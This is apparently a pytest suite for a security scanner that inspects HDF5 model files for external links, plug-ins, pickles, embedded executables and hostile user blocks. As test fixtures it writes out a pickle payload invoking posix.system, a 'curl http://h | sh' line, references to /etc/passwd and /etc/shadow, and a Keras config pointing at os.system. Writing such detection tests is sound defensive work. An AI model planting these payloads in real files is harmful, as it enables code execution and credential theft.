"""HDF5: every structure is read, what leads out of the file is found, nothing is taken on trust."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Severity, Verdict
from assay.scanning.parsers import hdf5
from scanning.container_making import COMMAND, ELF, Judged, judge, zip_of
from scanning.container_making import Member as ZipMember
from scanning.hdf5_making import (
    OCTET,
    VARYING,
    Array,
    External,
    Group,
    Hard,
    Plugin,
    Soft,
    hdf5_of,
)

NAME = "data.h5"
REAL = Path(__file__).parent / "real_hdf5"
KERAS = {"keras_version": "3.8.0"}
PICKLE = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R."


def of(root: Group, name: str = NAME, before: bytes = b"", after: bytes = b"") -> Judged:
    return judge(hdf5_of(root, before, after), name)


# What the libraries write


@pytest.mark.parametrize(
    "name",
    [
        "dense.h5",
        "old.h5",
        "user_block.h5",
        "pytables_plain.h5",
        "pytables_packed.h5",
        "pytables_attribute.h5",
    ],
)
def test_what_libraries_write_is_clean(name: str) -> None:
    judged = judge((REAL / name).read_bytes(), "weights.bin")
    assert judged.verdict is Verdict.CLEAN, judged
    assert judged.family == "hdf5"


@pytest.mark.parametrize(
    "name", ["pytables_plain_harmful.h5", "pytables_packed_harmful.h5", "pytables_attribute_harmful.h5"]
)  # fmt: skip
def test_pickles_that_pytables_and_pandas_load(name: str) -> None:
    judged = judge((REAL / name).read_bytes(), NAME)
    assert "pickle.dangerous-import" in judged.rules
    assert judged.verdict is Verdict.MALICIOUS


def test_links_and_attributes_in_fractal_heaps() -> None:
    file = hdf5.File.of((REAL / "dense.h5").read_bytes())
    nodes = {node.path: node for node in file.nodes()}
    root = nodes["/"]
    assert len(root.attributes) == 14
    found = {
        attribute.name: next(hdf5.attribute_values(attribute, file.heaps, 1000))
        for attribute in root.attributes
        if attribute.datatype.text
    }
    assert found["attribute 7"] == b"value 7"
    assert {link.path for link in nodes["/many"].links} >= {f"/x{i}" for i in range(20)}
    assert nodes["/many/array"].shape == (2, 3)
    assert not any(node.problems for node in nodes.values())


@pytest.mark.parametrize(("name", "count"), [("dense.h5", 4), ("old.h5", 4)])
def test_chunks_by_every_index(name: str, count: int) -> None:
    file = hdf5.File.of((REAL / name).read_bytes())
    nodes = {node.path: node for node in file.nodes()}
    node = nodes["/chunked"]
    assert node.layout is not None
    assert node.shape is not None
    chunks = hdf5.chunks(file.source, node.layout, node.shape, filtered=bool(node.filters))
    assert len(list(chunks)) == count
    if "/growing" in nodes:
        node = nodes["/growing"]
        assert node.layout is not None
        assert node.shape is not None
        chunks = hdf5.chunks(file.source, node.layout, node.shape, filtered=False)
        assert len(list(chunks)) == 5


def test_old_groups_with_a_cycle_end() -> None:
    file = hdf5.File.of((REAL / "old.h5").read_bytes())
    paths = [node.path for node in file.nodes()]
    assert len(paths) == len(set(paths)) == 22
    assert paths[0] == "/"


# What leads out of the file


@pytest.mark.parametrize(
    "file", ["/etc/passwd", "../x.h5", "a/../../x.h5", "\\\\host\\s\\x.h5", "http://h/x", "C:\\x", "~/x"]
)  # fmt: skip
@pytest.mark.parametrize("way", ["link", "storage", "virtual"])
def test_other_files_by_path(file: str, way: str) -> None:
    ways: dict[str, External | Array] = {
        "link": External(file),
        "storage": Array(outside=[file]),
        "virtual": Array(sources=[(file, "/w")]),
    }
    judged = of(Group({"a": Group({"b": ways[way]})}))
    assert judged.verdict is Verdict.MALICIOUS, judged
    assert len(judged.rules) == 1


@pytest.mark.parametrize("way", [External("x.h5"), Array(outside=["x.raw"])])
def test_a_file_beside_is_to_be_looked_at_and_no_model_has_one(way: External | Array) -> None:
    root = {"a": way}
    assert of(Group(root)).verdict is Verdict.SUSPICIOUS
    assert of(Group(root, KERAS)).verdict is Verdict.MALICIOUS
    assert of(Group(root), "m.weights.h5").verdict is Verdict.MALICIOUS


def test_links_and_arrays_within_the_file_are_clean() -> None:
    inner = Array(sources=[(".", "/b")])
    judged = of(Group({"a": inner, "b": Array(), "s": Soft("/b"), "loop": Soft("/loop")}))
    assert judged.verdict is Verdict.CLEAN, judged


def test_the_second_of_several_names_counts() -> None:
    judged = of(Group({"a": Array(outside=["w.raw", "/etc/shadow"])}))
    assert judged.verdict is Verdict.MALICIOUS
    judged = of(Group({"a": Array(sources=[(".", "/b"), ("../x.h5", "/b")])}))
    assert judged.verdict is Verdict.MALICIOUS


def test_plug_ins() -> None:
    assert of(Group({"a": Plugin(70)})).rules == {"hdf5.plugin"}
    assert of(Group({"a": Array(filters=[40000])})).rules == {"hdf5.plugin"}
    assert of(Group({"a": Array(filters=[32001])})).verdict is Verdict.CLEAN
    assert of(Group({"a": Array(filters=[1, 2, 3])})).verdict is Verdict.CLEAN


# What is before, behind and inside


@pytest.mark.parametrize("size", [512, 1024, 4096])
def test_a_superblock_further_on_is_found(size: int) -> None:
    judged = of(Group({"a": External("/etc/passwd")}), "x.dat", before=bytes(size))
    assert judged.family == "hdf5"
    assert judged.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("before", [COMMAND, b"#!/bin/sh\ncurl http://h | sh\n", PICKLE])
def test_what_acts_in_the_user_block(before: bytes) -> None:
    judged = of(Group({"a": Array()}), before=before.ljust(1024, b"\n"))
    assert judged.verdict is Verdict.MALICIOUS


def test_usual_user_blocks_are_clean() -> None:
    assert of(Group({"a": Array()}), before=bytes(512)).verdict is Verdict.CLEAN
    matlab = b"MATLAB 7.3 MAT-file, Platform: GLNXA64".ljust(124) + b"\0\x02IM"
    assert of(Group({"a": Array()}), before=matlab.ljust(512, b"\0")).verdict is Verdict.CLEAN
    assert of(Group({"a": Array()}), before=b"?" * 512).verdict is Verdict.SUSPICIOUS


def test_bytes_behind_the_end() -> None:
    judged = of(Group({"a": Array()}), after=b"\x01rest")
    assert judged.rules == {"hdf5.trailing-data"}
    assert judged.verdict is Verdict.CLEAN
    assert of(Group({"a": Array()}), after=PICKLE).verdict is Verdict.MALICIOUS
    archive = zip_of([ZipMember("x.pkl", PICKLE)])
    assert of(Group({"a": Array()}), after=archive).verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("compact", [False, True])
def test_programs_and_pickles_in_arrays(compact: bool) -> None:
    program = Array(ELF, OCTET, (len(ELF),), compact=compact)
    assert of(Group({"a": program})).rules == {"tensor.executable"}
    hostile = Array(PICKLE, OCTET, (len(PICKLE),), compact=compact)
    assert of(Group({"a": hostile})).rules == {"tensor.pickle"}
    assert of(Group({"a": Array(ELF)})).rules == {"tensor.executable"}


def test_an_attribute_that_pytables_would_unpickle() -> None:
    for value in (PICKLE, COMMAND):
        judged = of(Group({}, {"note": value}))
        assert "hdf5.pickle" in judged.rules
        assert judged.verdict is Verdict.MALICIOUS
    for words in (b"A sentence.", b"K.", b"c.", "In words."):
        assert of(Group({}, {"note": words})).verdict is Verdict.CLEAN, words


@pytest.mark.parametrize("as_text", [True, False])
@pytest.mark.parametrize("name", ["model_config", "training_config", "anything"])
def test_a_configuration_in_any_attribute_is_judged(name: str, as_text: bool) -> None:
    layer = {"class_name": "function", "module": "os", "config": "system"}
    text = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})
    judged = of(Group({"g": Group({}, {name: text if as_text else text.encode()})}))
    assert "keras.dangerous-reference" in judged.rules
    assert judged.verdict is Verdict.MALICIOUS


def test_a_configuration_that_is_none_is_unread() -> None:
    judged = of(Group({}, {"model_config": "{"}))
    assert judged.verdict is Verdict.UNKNOWN


def test_hdf5_behind_another_name() -> None:
    data = hdf5_of(Group({"a": Array()}))
    assert "file.disguised" in judge(data, "x.png").rules
    assert judge(data, "x.safetensors").verdict is not Verdict.CLEAN


# What is broken


def test_a_file_that_is_cut_off_is_never_clean() -> None:
    whole = hdf5_of(Group({"a": External("/etc/passwd"), "b": Array()}, {"t": "x" * 20}))
    for size in range(8, len(whole)):
        assert judge(whole[:size], NAME).verdict is not Verdict.CLEAN, size


@pytest.mark.parametrize("child", [Hard(1 << 40), Hard(12), Array(at=1 << 50)])
def test_addresses_that_lead_nowhere_are_unread(child: Hard | Array) -> None:
    judged = of(Group({"a": child, "b": Array()}))
    assert judged.verdict is Verdict.UNKNOWN


def test_what_comes_after_something_broken_is_still_judged() -> None:
    judged = of(Group({"a": Hard(12), "b": External("/etc/passwd")}))
    assert judged.unread
    assert judged.verdict is Verdict.MALICIOUS


def test_messages_kept_elsewhere_are_unread() -> None:
    body = b"\x03\x01" + bytes(8)
    data = bytearray(hdf5_of(Group({}, {}, [(12, body)])))
    at = data.index(bytes([12, len(body), 0, 0]))
    data[at + 3] = 2
    assert judge(bytes(data), NAME).verdict is Verdict.UNKNOWN


def test_a_group_of_itself_and_a_header_that_continues_in_itself() -> None:
    root = Group({"a": Hard(64)})
    assert of(root).verdict is not Verdict.MALICIOUS
    loop = Group({}, {}, [(16, (64).to_bytes(8, "little") + (64).to_bytes(8, "little"))])
    assert of(loop).verdict is not Verdict.MALICIOUS


def test_values_over_the_budget() -> None:
    file = hdf5.File.of(hdf5_of(Group({}, {"t": "x" * 500})))
    (attribute,) = next(file.nodes()).attributes
    with pytest.raises(hdf5.BudgetError):
        list(hdf5.attribute_values(attribute, file.heaps, 100))


def test_effort_is_bounded() -> None:
    file = hdf5.File.of(hdf5_of(Group({f"g{i}": Group() for i in range(50)})))
    file.source.effort.left = 20
    problems = [problem for node in file.nodes() for problem in node.problems]
    assert "more structures than the budget" in problems


@settings(max_examples=150, deadline=None)
@given(st.data(), st.sampled_from(["dense.h5", "old.h5", "pytables_packed.h5"]))
def test_any_mutation_is_answered(data: st.DataObject, name: str) -> None:
    whole = bytearray((REAL / name).read_bytes())
    for _ in range(data.draw(st.integers(1, 8))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    judged = judge(bytes(whole), NAME)
    assert judged.verdict in set(Verdict)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_any_mutation_of_a_small_file_is_answered(data: st.DataObject) -> None:
    text = Array(b"\0" * 16, VARYING, (1,))
    root = Group(
        {"a": Array(outside=["x"]), "b": Array(sources=[("y", "z")]), "c": text}, {"t": "v"}
    )
    whole = bytearray(hdf5_of(root))
    for _ in range(data.draw(st.integers(1, 6))):
        whole[data.draw(st.integers(8, len(whole) - 1))] = data.draw(st.integers(0, 255))
    assert judge(bytes(whole), NAME).verdict in set(Verdict)


def test_severity_of_a_pickle_that_imports_nothing_is_low() -> None:
    judged = judge((REAL / "pytables_plain.h5").read_bytes(), NAME)
    assert {f.severity for f in judged.findings} == {Severity.LOW}
